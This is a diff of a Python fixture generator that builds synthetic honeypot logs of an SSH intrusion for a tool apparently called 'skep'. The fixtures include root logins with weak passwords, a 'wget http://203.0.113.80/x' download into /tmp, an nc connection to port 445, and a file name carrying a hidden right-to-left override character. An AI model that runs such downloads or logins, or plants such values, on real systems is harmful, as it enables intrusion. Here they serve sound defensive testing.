@@ -44,8 +44,8 @@ def flow(t, number, start, end, verdict="forward", reason="inbound", stop="close
                       "dropped_toserver": dropped, "dropped_toclient": 0, "end": stop})
 
 
-def about(t, kind, eventid, message, session=A, honeypot="web1", who=None, **more):
-    inner = {"eventid": eventid, "honeypot": honeypot, "message": message}
+def about(t, kind, eventid, session=A, honeypot="web1", who=None, **more):
+    inner = {"eventid": eventid, "honeypot": honeypot}
     if session:
         inner["session"] = session
     inner.update(more)
@@ -59,38 +59,39 @@ SIX = ends("2001:db8::10", 546, "2001:db8::1", 547, "UDP")
 PING = {"src_ip": "203.0.113.5", "dest_ip": "198.51.100.10", "proto": "ICMP", "icmp_type": 8, "icmp_code": 0}
 
 
+WHO = {"pid": 321, "ppid": 300, "uid": 0, "comm": "wget", "tty": "pts/0"}
+
+
 def events():
     first = [
         line(0, "evidence", evidence={"eventid": "skep.evidence.started", "message": "shop skep 0.1.0"}),
-        about(11, "session", "skep.session.connect", "ssh from 203.0.113.5", who=SSH, start=stamp(T0 + 11), service="ssh"),
-        about(12, "login", "skep.login.failed", "root, password \"toor\": failed", who=SSH, user="root", password="toor",
-              auth="password"),
-        about(13, "login", "skep.login.success", "root, password \"123456\"", who=SSH, user="root", password="123456",
-              auth="password"),
-        about(10.5, "machine", "skep.machine.running", "running", session=None),
-        about(14, "command", "skep.command.input", "wget http://203.0.113.80/x", input="wget http://203.0.113.80/x " + EVIL,
-              tty="pts/0"),
-        about(14.1, "process", "skep.process.exec", "/usr/bin/wget", pid=321, ppid=300, uid=0, path="/usr/bin/wget",
-              cwd="/tmp", args=["wget", "http://203.0.113.80/x", EVIL], ret=0),
-        about(14.2, "connection", "skep.connection.connect", "to 203.0.113.80:80", who=WGET, pid=321, comm="wget"),
-        about(14.4, "file", "skep.file.create", "/tmp/x", pid=321, path="/tmp/x", op="create"),
+        about(11, "session", "skep.session.connect", who=SSH, start=stamp(T0 + 11), service="ssh"),
+        about(12, "login", "skep.login.failed", who=SSH, method="password", username="root", password="toor"),
+        about(13, "login", "skep.login.success", who=SSH, method="password", username="root", password="123456"),
+        about(10.5, "machine", "skep.machine.running", session=None, message="running"),
+        about(14, "command", "skep.command.input", who=SSH, input="wget http://203.0.113.80/x " + EVIL, **WHO),
+        about(14.1, "process", "skep.process.exec", who=SSH, path="/usr/bin/wget", cwd="/tmp", result=0, argc=3,
+              argv=["wget", "http://203.0.113.80/x", EVIL], **WHO),
+        about(14.2, "connection", "skep.connection.connect", who=WGET, **WHO),
+        about(14.4, "file", "skep.file.create", who=SSH, path="/tmp/x\u202e", flags="0101", **WHO),
     ]
     second = [
-        about(15, "connection", "skep.connection.connect", "to 203.0.113.9:445", who=SCAN, pid=322, comm="nc"),
+        about(15, "connection", "skep.connection.connect", who=SCAN, **WHO),
         flow(16.5, 72, 14.19, 15.5, reason="outbound", **WGET),
         flow(18.0, 75, 15.0, 15.0, verdict="drop", reason="limit-tcp", stop="denied", dropped=3,
              **ends("198.51.100.10", 50001, "203.0.113.9", 445)),
-        about(20, "session", "skep.session.closed", "closed", who=SSH, start=stamp(T0 + 11)),
+        about(20, "session", "skep.session.closed", who=SSH, start=stamp(T0 + 11), end=stamp(T0 + 20), duration_ms=9000,
+              commands=1, execs=1),
         # Written earlier than the lines before it.
         flow(20.5, 71, 10.9, 20.1, **SSH),
-        about(19, "machine", "skep.machine.rebooted", EVIL, session=None, honeypot="db1"),
+        about(19, "machine", "skep.machine.rebooted", session=None, honeypot="db1", message=EVIL),
         flow(21, 80, 20.8, 20.9, honeypot="db1", **SIX),
         flow(22, 81, 21.8, 21.8, **PING),
     ]
     third = [
         # The same addresses and ports an hour later.
-        about(3600, "session", "skep.session.connect", "ssh from 203.0.113.5", session=B, who=SSH, start=stamp(T0 + 3600)),
-        about(3602, "connection", "skep.connection.connect", "to 203.0.113.80:80", session=B, who=WGET, pid=400),
+        about(3600, "session", "skep.session.connect", session=B, who=SSH, start=stamp(T0 + 3600), service="ssh"),
+        about(3602, "connection", "skep.connection.connect", session=B, who=WGET, **WHO),
         flow(3700, 171, 3599.9, 3690, **SSH),
         flow(3701, 172, 3602, 3603, reason="outbound", **WGET),
         line(3710, "stats", stats={"uptime": 10, "ports": [{"port": "web1", "frames": 3}]}),
